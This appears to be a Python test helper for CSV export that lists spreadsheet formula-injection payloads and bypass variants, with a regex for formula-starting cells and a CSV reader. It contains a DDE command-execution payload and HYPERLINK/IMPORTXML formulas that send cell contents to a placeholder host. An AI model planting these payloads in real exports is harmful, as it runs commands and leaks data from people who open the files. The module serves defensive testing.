"""Formulas that customers may write, and the cells of a text file as a spreadsheet reads them."""

from __future__ import annotations

import csv
import io
import re

# How formulas get into spreadsheets, as the guides to CSV injection list it, and ways around a simple guard.
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
    '"=1+1',
    "'=1+1",
    "x;=1+1",
    'x;"=1+1',
    'x";"=1+1',
    "x\t=1+1",
    "x\r\n=1+1",
    "x\n;=1+1",
    "+250788000101",
    "-",
    "=",
)
# What a cell begins with that a spreadsheet takes for a formula.
BEGINNING = re.compile("[=+\\-@＝＋－＠]")


def read_cells(data: bytes, delimiter: str = ",") -> list[list[str]]:
    """The rows of a text file for spreadsheets."""
    assert data.startswith(b"\xef\xbb\xbf"), "without its mark Excel takes UTF-8 for something else"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))
